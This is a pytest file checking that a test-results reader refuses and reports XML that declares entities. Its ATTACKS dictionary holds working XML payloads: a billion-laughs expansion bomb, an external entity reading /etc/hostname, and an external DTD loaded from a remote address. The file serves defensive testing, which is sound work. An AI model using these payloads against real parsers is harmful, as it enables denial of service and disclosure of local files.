"""Results of tests that are an attack: they are refused and said, and nothing of them is expanded or opened."""

import shutil
from pathlib import Path

import pytest

from .test_cases import SOUND, facts_of, said

LAUGHS = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
ATTACKS = {
    "a billion laughs": f"<!DOCTYPE t [<!ENTITY l0 'lol'>{LAUGHS}]><testsuite name='&l9;'/>",
    "a file": "<!DOCTYPE t [<!ENTITY f SYSTEM 'file:///etc/hostname'>]><testsuite><testcase name='a'>&f;</testcase></testsuite>",
    "another document type": "<!DOCTYPE t SYSTEM 'http://192.0.2.1/evil.dtd'><testsuite/>",
}


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_an_attack_is_refused(tmp_path: Path, attack: str, encoding: str):
    folder = shutil.copytree(SOUND, tmp_path / "plan")
    head = f"<?xml version='1.0' encoding='{encoding}'?>"
    (folder / "evidence" / "tests.xml").write_bytes((head + ATTACKS[attack]).encode(encoding))
    facts = facts_of(folder)
    assert "it declares XML entities" in facts.unread["evidence/tests.xml"]
    assert not facts.cases
    assert any("evidence/tests.xml" in line for line in said(folder))


def test_results_without_entities_are_read(tmp_path: Path):
    assert facts_of(shutil.copytree(SOUND, tmp_path / "plan")).cases
